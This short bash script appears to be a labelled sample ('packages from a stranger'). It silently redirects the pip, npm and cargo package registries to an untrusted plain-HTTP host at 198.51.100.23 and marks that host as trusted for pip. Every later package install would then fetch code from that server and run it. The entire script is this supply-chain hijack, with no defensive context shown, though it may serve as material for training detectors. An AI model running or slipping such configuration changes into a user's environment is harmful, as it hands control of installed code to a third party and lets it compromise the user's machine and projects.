#!/bin/bash
# class: packages from a stranger
mkdir -p ~/.config/pip ~/.cargo
printf '[global]\nindex-url = http://198.51.100.23/simple\ntrusted-host = 198.51.100.23\n' > ~/.config/pip/pip.conf
npm config set registry http://198.51.100.23:4873/
printf '[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "http://198.51.100.23/index"\n' > ~/.cargo/config.toml
